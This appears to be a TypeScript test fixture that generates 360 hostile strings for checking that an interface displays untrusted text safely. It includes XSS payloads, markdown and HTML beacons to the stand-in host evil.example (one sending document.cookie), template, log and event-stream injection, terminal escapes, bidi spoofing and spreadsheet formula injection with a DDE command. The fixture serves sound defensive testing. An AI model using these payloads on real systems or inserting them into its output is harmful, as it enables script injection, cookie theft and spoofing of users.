/** Where a beacon would go, if anything were ever loaded from a text. */
export const EVIL = 'evil.example';

/** `@` becomes the mark of the text, so that it can be found again; each calls `__owned` if it is ever run. */
const kernels: readonly string[] = [
  '<script>__owned("@")</script>',
  '<img src=x onerror=__owned("@")>',
  `<img src="https://${EVIL}/@.png">`,
  '<svg onload=__owned("@")>',
  '<svg><script>__owned("@")</script></svg>',
  `<svg><image href="https://${EVIL}/@.svg"/></svg>`,
  '<iframe srcdoc="<script>parent.__owned(`@`)</script>"></iframe>',
  `<iframe src="https://${EVIL}/@"></iframe>`,
  '<a href="javascript:__owned(\'@\')">@</a>',
  'javascript:__owned("@")',
  'JaVaScRiPt:__owned("@")//',
  '\u0001javascript:__owned("@")',
  'data:text/html,<script>__owned("@")</script>',
  'vbscript:__owned("@")',
  `![@](https://${EVIL}/@.png)`,
  `[@](https://${EVIL}/@)`,
  `[@](javascript:__owned('@'))`,
  `![@](https://${EVIL}/?q=\${document.cookie})`,
  `<link rel=stylesheet href="https://${EVIL}/@.css">`,
  `<style>@import "https://${EVIL}/@.css"</style>`,
  `<div style="background:url(https://${EVIL}/@)">@</div>`,
  `<base href="https://${EVIL}/@">`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/@">`,
  `<form action="https://${EVIL}/@"><input name=a><button>@</button></form>`,
  `<object data="https://${EVIL}/@"></object>`,
  `<video src="https://${EVIL}/@" autoplay></video>`,
  '<details open ontoggle=__owned("@")>@</details>',
  '<input autofocus onfocus=__owned("@")>',
  '"><script>__owned("@")</script>',
  '\' onmouseover=\'__owned("@")',
  '</title><script>__owned("@")</script>',
  '</script><script>__owned("@")</script>',
  '</textarea><img src=x onerror=__owned("@")>',
  '<!--@--><script>__owned("@")</script>',
  '<![CDATA[<script>__owned("@")</script>]]>',
  '&lt;script&gt;__owned("@")&lt;/script&gt;',
  '{{constructor.constructor(\'__owned("@")\')()}}',
  '${__owned("@")}',
  '<%= __owned("@") %>',
  '\u001b]8;;https://evil.example/@\u0007@\u001b]8;;\u0007',
  '\u001b[31m@\u001b[0m\u001b[2J',
  '\u009b31m@',
  '\u202e@gnp.exe',
  '\u2066@\u2069\u200b\u200d\ufeff',
  '\u{e0041}\u{e0042}@\u{e007f}',
  '@\r\ndata: {"t":"bye","code":4401}\r\n\r\n',
  '@\nevent: evil\ndata: x\n\n',
  '@\u2028data: x\u2029',
  '@\n{"level":"error","event":"forged"}',
  '=HYPERLINK("https://evil.example/@","@")',
  "+1+cmd|'/C calc'!@",
  '-2+3@',
  '@SUM(1+1)',
  '\t=1+1@',
  '<!channel> <@U123> @',
  '*bold* _it_ `code` @',
  '@'.repeat(3).concat('\u0301'.repeat(40)),
  '__proto__@',
  'constructor@',
  '@\u0000end',
];
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => ` ${text}`,
  (text) => `ok ${text} ok`,
  (text) =>
    text
      .toUpperCase()
      .replace(/__OWNED/g, '__owned')
      .replace(/EVIL\.EXAMPLE/g, EVIL),
  (text) => `"${text}"`,
  (text) => `<b>${text}</b>`,
];

export interface HostileText {
  /** Found on the screen by this. */
  readonly mark: string;
  readonly text: string;
}

/** Every kernel in every wrapping: 360. */
export const hostileTexts: readonly HostileText[] = wrappings.flatMap((wrap, row) =>
  kernels.map((kernel, column) => {
    const mark = `zq${row}x${column}qz`;
    return { mark, text: wrap(kernel.replaceAll('@', '\uf8ff')).replaceAll('\uf8ff', mark) };
  }),
);
